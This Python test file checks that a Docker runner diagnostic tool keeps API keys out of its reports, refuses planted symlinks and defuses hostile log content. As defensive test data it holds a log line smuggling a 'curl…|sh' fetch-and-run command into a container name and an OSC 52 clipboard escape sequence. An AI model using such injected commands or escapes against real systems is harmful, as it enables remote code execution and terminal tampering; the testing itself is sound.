"""Never leak, never destroy, never hang: secrets and the report folder on the real Docker engine.

Every test runs `pytest checks/` as a user does, against lab containers that misbehave the way real
runners do (a key in their command line, labels and logs; escape sequences in their logs; crafted
upgrade lines), and searches every byte the run wrote, the packet's members and the terminal.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from functools import partial

import pytest

from blinkcheck.report.packet import archive_members
from lab.docker import scenarios as lab
from tests.harness import ROOT, CheckRun, every_byte, probe_processes, run_checks
from tests.reliability import Sees

pytestmark = pytest.mark.docker_lab

BASE = ["--target", "docker", "--blink-url", lab.BLINK_URL, "--probe-timeout", "4"]
ARG_SECRET = "Ar9Tq2VxL7mZ4pKd8WnB3cYh"  # a key given on the command line (`--token`) and in a label


@pytest.fixture(scope="module", autouse=True)
def lab_down_after():
    lab.up("healthy")
    yield
    lab.down()


def leaks(secret: str, run: CheckRun, forms: tuple[str, ...] = ()) -> list[str]:
    """Where any form of the secret is: a file the run wrote, a packet member, the terminal."""
    found = []
    for form in (secret, *forms):
        found += [f"{form[:6]}… in {name}" for name, data in every_byte(run.report_dir).items() if form.encode() in data]
        found += [f"{form[:6]}… in the terminal"] if form in run.stdout + run.stderr else []
    return found


def leaky_runner(name: str, script: str, **env: str) -> None:
    """A runner-like container (the runner image's shell) that prints what `script` prints, then waits."""
    dc = lab.client()
    dc.containers.run(lab.RUNNER_IMAGE, ["sh", "-c", script + "; sleep 3600"], name=name, detach=True,
                      labels=lab.LABEL, network=lab.NETWORK, environment=env)  # fmt: skip
    lab.wait_until(f"{name} logging", lambda: bool(dc.containers.get(name).logs()), deadline_s=30)


USERS_FILES = "the user's files are untouched (the leak gate judges only files this run wrote)"
KEY_IN_NO_ARTIFACT = "the key in no report file or packet member"


@pytest.mark.reliability(
    "`--report-dir` pointed at a runner's install folder holding its `.env` (with the API key) and notes, `--bundle on`",
    Sees(exit=0, facts=(USERS_FILES, KEY_IN_NO_ARTIFACT), report=True),
)
def test_leak_gate_never_touches_a_users_own_files(tmp_path, sees):
    lab.up("healthy")
    install = tmp_path / "blink-runner"
    install.mkdir()
    env_file = install / ".env"
    env_file.write_text(f"BLINK_RUNNER_GROUP_API_KEY={lab.LAB_API_KEY}\n")
    notes = install / "notes.txt"
    notes.write_text(f"key for the runner group: {lab.LAB_API_KEY}\n")
    run = run_checks(*BASE, "--probe", "off", "--bundle", "on", report_dir=install)
    sees(run)
    sees.fact(USERS_FILES, env_file.read_text() == f"BLINK_RUNNER_GROUP_API_KEY={lab.LAB_API_KEY}\n"
              and notes.read_text() == f"key for the runner group: {lab.LAB_API_KEY}\n"
              and "LEAK GATE" not in run.stdout + run.stderr)  # fmt: skip
    [packet] = install.glob("escalation-*.tar.gz")
    written = [(install / name).read_bytes() for name in ("results.json", "report.html", "junit.xml")]
    sees.fact(KEY_IN_NO_ARTIFACT, all(lab.LAB_API_KEY.encode() not in v
                                      for v in [*written, *archive_members(packet).values()]))  # fmt: skip


LINKS_REPLACED = "the reports replace the links"
VICTIMS_UNTOUCHED = "the files the links pointed at are untouched"


@pytest.mark.reliability(
    "links planted in a shared report folder (`results.json`, `report.html`, `junit.xml`, `.write-test` pointing at other files)",
    Sees(exit=0, facts=(LINKS_REPLACED, VICTIMS_UNTOUCHED), report=True),
)
def test_planted_links_in_the_report_folder_are_never_followed(tmp_path, sees):
    lab.up("healthy")
    report_dir = tmp_path / "shared"
    report_dir.mkdir()
    victims = {}
    for name in ("results.json", "report.html", "junit.xml", ".write-test"):
        victim = tmp_path / f"victim-{name.strip('.')}"
        victim.write_text(f"someone else's {name}\n")
        victims[name] = victim
        os.symlink(victim, report_dir / name)
    run = run_checks(*BASE, "--probe", "off", report_dir=report_dir)
    sees.fact(VICTIMS_UNTOUCHED, all(v.read_text() == f"someone else's {name}\n" for name, v in victims.items()))
    sees.fact(LINKS_REPLACED, all(not (report_dir / name).is_symlink() and (report_dir / name).stat().st_size > 100
                                  for name in ("results.json", "report.html", "junit.xml")))  # fmt: skip
    sees(run)
    assert run.entries("docker.disconnected.container-running")


OWN_PACKET = "this run gets its own packet (`escalation-<time>-2.tar.gz`) and manifest"
OTHERS_UNTOUCHED = "the other run's packets are untouched"
PRINTED = "the printed list describes this run's packet"


@pytest.mark.reliability(
    "two runs write their escalation packet in the same second (an earlier run's `escalation-<time>.tar.gz` already there)",
    Sees(exit=0, facts=(OWN_PACKET, OTHERS_UNTOUCHED, PRINTED)),
)
def test_two_runs_in_the_same_second_get_their_own_packets(tmp_path, sees):
    lab.up("healthy")
    report_dir = tmp_path / "r"
    report_dir.mkdir()
    now = time.time()
    others = {}
    for s in range(0, 90):  # an earlier run's packet under every name this run could choose
        stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(now + s))
        path = report_dir / f"escalation-{stamp}.tar.gz"
        path.write_bytes(b"another run's packet")
        others[path] = path.read_bytes()
    run = run_checks(*BASE, "--probe", "off", "--bundle", "on", report_dir=report_dir)
    sees(run)
    sees.fact(OTHERS_UNTOUCHED, all(p.read_bytes() == data for p, data in others.items()))
    [mine] = [p for p in report_dir.glob("escalation-*.tar.gz") if p not in others]
    base = mine.name.removesuffix(".tar.gz")
    members = archive_members(mine)
    manifest = (report_dir / f"{base}.manifest.txt").read_text()
    sees.fact(OWN_PACKET, mine.name.endswith("-2.tar.gz") and all(name.startswith(base + "/") for name in members)
              and manifest == members[f"{base}/MANIFEST.txt"].decode(), mine.name)  # fmt: skip
    sees.fact(PRINTED, manifest.splitlines()[1] in run.stdout and str(mine) in run.stdout)


def probe_running(parent: int) -> bool:
    return bool(probe_processes(parent))


@pytest.mark.reliability(
    "two SIGTERMs, as `timeout` sends them (to the process, then to its group 0, 0.1 or 0.2 s later), mid-run",
    Sees(exit=2, says={"docker.runner.socket-mounted": "the run was terminated"}, report=True),
)
def test_two_sigterms_as_timeout_sends_them_end_cleanly(tmp_path, sees):
    """`timeout` signals the process and then its group; the second one lands while the first is being
    handled (0.05-0.3 s later it always did: a traceback, exit by SIGINT, results.json saying 1)."""
    lab.up("egress-blocked")
    try:
        for gap in (0.0, 0.1, 0.2):
            report_dir = tmp_path / f"gap-{gap}"
            cmd = [sys.executable, "-m", "pytest", "checks/", "-q", "-p", "no:randomly", "--report-dir", str(report_dir),
                   *BASE, "--probe-timeout", "8"]  # fmt: skip
            proc = subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                    start_new_session=True)  # its own process group, as under `timeout`
            # the egress probe runs (from inside the runner's namespace, a child process): the slowest check
            lab.wait_until("the probe running", partial(probe_running, proc.pid), deadline_s=30, every_s=0.05)
            os.kill(proc.pid, signal.SIGTERM)
            time.sleep(gap)
            try:
                os.killpg(proc.pid, signal.SIGTERM)
            except ProcessLookupError:
                pass  # already ended
            out, err = proc.communicate(timeout=60)
            sees(CheckRun(proc.returncode, out, err, report_dir, 0.0))  # handled once, whatever the gap
    finally:
        lab.up("healthy")


NO_REMEDY_HOLDS_IT = "no remedy holds it (versions are captured only in a version's shape)"


@pytest.mark.reliability(
    "a crafted upgrade line in a runner's log (`Creating new container with name: blink-runner-1.0;curl${IFS}… and configuration …`)",
    Sees(says={"docker.disconnected.container-running": "container blink-runner-crafted"}, facts=(NO_REMEDY_HOLDS_IT,)),
)
def test_crafted_log_line_cannot_put_shell_into_a_remedy(tmp_path, sees):
    lab.up("healthy")
    crafted = "blink-runner-1.0;curl${IFS}http://172.30.251.1:9/x|sh"
    line = f"Creating new container with name: {crafted} and configuration from container with id: 0123456789ab"
    leaky_runner("blink-runner-crafted", f"echo '{line}'; echo 'exit 1'; exit 1")
    run = run_checks(*BASE, "--probe", "off", report_dir=tmp_path)
    sees(run)
    remedies = "\n".join(c["remediation"] for c in run.results["checks"])
    sees.fact(NO_REMEDY_HOLDS_IT, "curl${IFS}" not in remedies and "|sh" not in remedies)
    entry = next(c for c in run.entries("docker.disconnected.container-running") if "crafted" in c["object"])
    assert entry["outcome"] in ("failed", "warning") and "`docker logs " in entry["remediation"]


RAW_NOWHERE = "no raw ESC, BEL, NUL or CR in the terminal, results.json, report.html or junit.xml"
ESCAPED_IN_EVIDENCE = "the evidence shows them escaped (`\\x1b[31mred\\x1b[0m`, `\\x00`)"


@pytest.mark.reliability(
    "ANSI/OSC escape sequences (OSC 52 sets the clipboard), NUL and CR bytes in a runner's log lines",
    Sees(exit=1, terminal=("\\x1b]52;c;ZWNobyBwd25lZA==\\x07",), facts=(RAW_NOWHERE, ESCAPED_IN_EVIDENCE)),
)
def test_escape_sequences_from_logs_are_shown_escaped(tmp_path, sees):
    lab.up("healthy")
    script = (r"printf 'level=error msg=\"dial tcp 172.30.251.1:18080: i/o timeout \033]52;c;ZWNobyBwd25lZA==\007"
              r" \033[2J\033[31mred\033[0m nul\000 cr\rhidden\"\n'")  # fmt: skip
    leaky_runner("blink-runner-ansi", script)
    run = run_checks(*BASE, "--probe", "off", report_dir=tmp_path)
    sees(run)  # the failing check's text, escaped, in the terminal
    texts = [run.stdout + run.stderr] + [(tmp_path / name).read_text() for name in ("results.json", "report.html",
                                                                                      "junit.xml")]  # fmt: skip
    sees.fact(RAW_NOWHERE, not any(raw in text for text in texts for raw in ("\x1b", "\x07", "\x00"))
              and "\r" not in texts[0])  # fmt: skip
    evidence = "\n".join(e["text"] for c in run.entries("docker.disconnected.no-network-errors") for e in c["evidence"])
    sees.fact(ESCAPED_IN_EVIDENCE, "\\x1b[31mred\\x1b[0m" in evidence and "\\x00" in evidence, evidence[-2000:])


KEY_NOWHERE = "the key, in every encoding, in no report file, packet member or terminal line"
MASKED_IN_LOGS = "the log line shows it masked (`registration refused for [REDACTED]`)"
WITHHELD = "the packet's inspect output by allow-list: Args, Cmd, Labels withheld"


@pytest.mark.reliability(
    "the runner's key changed by an encoder in its logs (JSON `\\uXXXX` of non-ASCII, `\\n`), a key on its command line (`--token`) and in a label, `--bundle on`",
    Sees(exit=1, facts=(KEY_NOWHERE, MASKED_IN_LOGS, WITHHELD)),
)
def test_encoded_key_and_command_line_key_leak_nowhere(tmp_path, sees):
    lab.up("healthy")
    key = "Schlüssel-Q7rT2vX9pL4m"
    escaped = "Schl\\u00fcssel-Q7rT2vX9pL4m"
    # printf '%s': the JSON line exactly as a JSON logger writes it (\u00fc, \n), no shell escapes applied.
    line = '{"level":"error","msg":"registration refused for ' + escaped + '\\n: dial tcp 172.30.251.1:18080: i/o timeout"}'
    script = f"printf '%s\\n' '{line}'; echo \"starting with $0 $*\""
    dc = lab.client()
    dc.containers.run(lab.RUNNER_IMAGE, ["sh", "-c", script + "; sleep 3600", "runner", "--token", ARG_SECRET],
                      name="blink-runner-encoded", detach=True, network=lab.NETWORK,
                      labels={**lab.LABEL, "com.example.deploy": ARG_SECRET},
                      environment={"BLINK_RUNNER_GROUP_API_KEY": key + "\n"})  # fmt: skip
    lab.wait_until("the runner logging", lambda: b"starting" in dc.containers.get("blink-runner-encoded").logs())
    run = run_checks(*BASE, "--probe", "off", "--bundle", "on", report_dir=tmp_path)
    sees(run)
    assert "LEAK GATE" not in run.stdout + run.stderr, run.stdout[-3000:]
    found = leaks(key, run, (escaped, ARG_SECRET, "Q7rT2vX9pL4m"))
    sees.fact(KEY_NOWHERE, not found, found)
    sees.fact(MASKED_IN_LOGS, "registration refused for [REDACTED]" in json.dumps(run.results))
    [packet] = tmp_path.glob("escalation-*.tar.gz")
    inspect = next(v for k, v in archive_members(packet).items() if k.endswith("blink-runner-encoded.inspect.json"))
    out = json.loads(inspect)
    sees.fact(WITHHELD, out["Args"].startswith("[withheld]") and out["Config"]["Cmd"].startswith("[withheld]")
              and out["Config"]["Labels"]["com.example.deploy"] == "[withheld]", out)  # fmt: skip
    assert out["State"]["Running"] and out["HostConfig"]["NetworkMode"] == lab.NETWORK
